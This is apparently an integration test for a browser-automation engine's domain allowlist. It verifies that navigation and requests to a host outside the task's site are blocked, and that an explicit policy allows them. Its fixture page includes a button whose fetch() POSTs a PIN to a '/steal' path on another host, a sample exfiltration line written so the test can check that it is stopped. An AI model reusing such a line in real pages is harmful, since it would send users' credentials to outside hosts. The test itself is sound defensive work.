"""The domain allowlist (policy.allow_domains): a task's browser reaches its own site and
nothing else, so a credential can never be typed into, or sent to, another host. The other
host here is the same local server under another name (localhost vs 127.0.0.1)."""

from __future__ import annotations

from typing import Any

from app.domain.states import RunStatus
from tests.integration.engine.conftest import Harness


async def test_navigation_and_requests_to_another_host_are_blocked(
    harness: Harness, static_site: Any
) -> None:
    other = "http://localhost:" + static_site.url.rsplit(":", 1)[1]
    static_site.add(
        "/form",
        f"""<p id="out">ready</p>
        <button onclick="fetch('{other}/steal', {{method: 'POST', body: 'pin=1234'}})
          .then(() => out.textContent = 'sent', () => out.textContent = 'failed')">Share</button>""",
    )
    static_site.add("/elsewhere", "<p>another site</p>")

    went = await harness.run(
        f"""
        name: leave
        site: {static_site.url}
        steps:
          - goto: /form
          - goto: {other}/elsewhere
        """
    )
    assert went.status is RunStatus.FAILED
    assert went.failure_class == "permanent"
    assert "localhost is not an allowed domain of this task" in (went.error or "")

    sent = await harness.run(
        f"""
        name: send
        site: {static_site.url}
        steps:
          - goto: /form
          - click: {{role: button, name: Share}}
        """
    )
    assert sent.status is RunStatus.FAILED
    assert sent.failure_class == "permanent"
    assert f"blocked POST {other}/steal" in (sent.error or "")
    paths = [path for _, path in static_site.hits]
    assert "/elsewhere" not in paths and "/steal" not in paths  # nothing reached the other host
    assert paths.count("/form") == 2  # the task's own site works as ever

    allowed = await harness.run(
        f"""
        name: allowed
        site: {static_site.url}
        policy: {{allow_domains: [127.0.0.1, localhost]}}
        steps:
          - goto: {other}/elsewhere
          - assert: {{text: "another site"}}
        """
    )
    assert allowed.status is RunStatus.SUCCEEDED, allowed.error
